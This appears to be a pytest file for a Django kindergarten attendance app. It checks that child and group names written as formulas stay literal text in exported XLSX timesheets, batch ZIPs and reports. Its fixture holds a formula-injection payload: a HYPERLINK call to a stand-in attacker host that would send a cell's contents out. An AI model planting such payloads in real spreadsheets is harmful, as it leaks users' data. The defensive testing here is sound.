"""Spreadsheet formula injection: names typed as formulas stay literal text in every XLSX
of the journal (timesheet 0504608, batch ZIP, reports), read back from the files."""

from __future__ import annotations

import datetime as dt
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from detsad.attendance.services import attendance_mark_group_day
from detsad.core.calendar import working_days
from detsad.core.documents import neutralise_formulas

from .helpers import at_today, enroll, new_child

MARCH = dt.date(2026, 3, 1)
EVIL_LAST = ['=HYPERLINK("http://evil.example/?x="&A1,"жми")', "+1", "-1", "@x"]


@pytest.fixture
def evil(world):
    sun = world.a.groups["sun"]
    sun.name = "=1+1"
    sun.save()
    kids = [
        enroll(world.a, new_child(world.a, last=last, first="Олег"), sun, dt.date(2026, 1, 12))
        for last in EVIL_LAST
    ]
    actor = at_today(world.a.actor("coordinator"), dt.date(2026, 4, 2))
    for day in working_days(world.a.org, 2026, 3):
        attendance_mark_group_day(
            actor=actor,
            group=sun,
            day=day,
            marks={k.pk: (False, "Б") for k in kids} if day.day in (10, 11) else {},
            all_present=True,
        )
    return sun, kids


def _text_cells(content: bytes) -> dict[str, object]:
    """Every cell that starts like a formula: value → (data type, quote prefix)."""
    wb = load_workbook(io.BytesIO(content))
    found = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value[:1] in "=+-@":
                    found[cell.value] = (cell.data_type, cell.quotePrefix)
    return found


def _assert_names_are_text(content: bytes, names: list[str]) -> None:
    with zipfile.ZipFile(io.BytesIO(content)) as zf:
        sheets = [n for n in zf.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in zf.read(n) or b"<f " in zf.read(n) for n in sheets)
    found = _text_cells(content)
    for name in names:
        assert found[name] == ("s", True), name


def test_timesheet_xlsx_writes_formula_like_names_as_text(world, as_role, evil):
    sun, _kids = evil
    response = as_role("coordinator").get(
        reverse("attendance:timesheet_xlsx", kwargs={"group_pk": sun.pk, "month": MARCH})
    )
    assert response.status_code == 200
    names = [f"{last} Олег" for last in EVIL_LAST]
    _assert_names_are_text(response.content, names)


def test_timesheet_zip_entries_are_safe(world, as_role, evil):
    response = as_role("coordinator").get(
        reverse("attendance:timesheets_batch"), {"month": "2026-03", "format": "xlsx"}
    )
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.content)) as zf:
        contents = [zf.read(n) for n in zf.namelist() if n.endswith(".xlsx")]
    assert contents
    sun_file = next(c for c in contents if f"{EVIL_LAST[0]} Олег" in _text_cells(c))
    _assert_names_are_text(sun_file, [f"{last} Олег" for last in EVIL_LAST])
    for content in contents:
        with zipfile.ZipFile(io.BytesIO(content)) as inner:
            assert not any(b"<f>" in inner.read(n) for n in inner.namelist())


def test_report_xlsx_writes_formula_like_names_as_text(world, as_role, evil):
    client = as_role("coordinator")
    period = {"start": "2026-03-01", "end": "2026-03-31", "format": "xlsx"}
    illness = client.get(reverse("attendance:report_illness"), period)
    assert illness.status_code == 200
    _assert_names_are_text(illness.content, [f"{last} Олег" for last in EVIL_LAST])
    summary = client.get(reverse("attendance:report_summary"), period)
    assert summary.status_code == 200
    _assert_names_are_text(summary.content, ["=1+1"])


def test_numbers_and_plain_text_are_left_alone():
    from openpyxl import Workbook

    wb = Workbook()
    wb.active.append(["Иванов", -3, 12.5, "—", "=SUM(B1:C1)"])
    neutralise_formulas(wb)
    cells = list(wb.active.iter_rows())[0]
    assert [c.data_type for c in cells] == ["s", "n", "n", "s", "s"]
    assert [c.quotePrefix for c in cells] == [False, False, False, False, True]
    assert cells[4].value == "=SUM(B1:C1)"
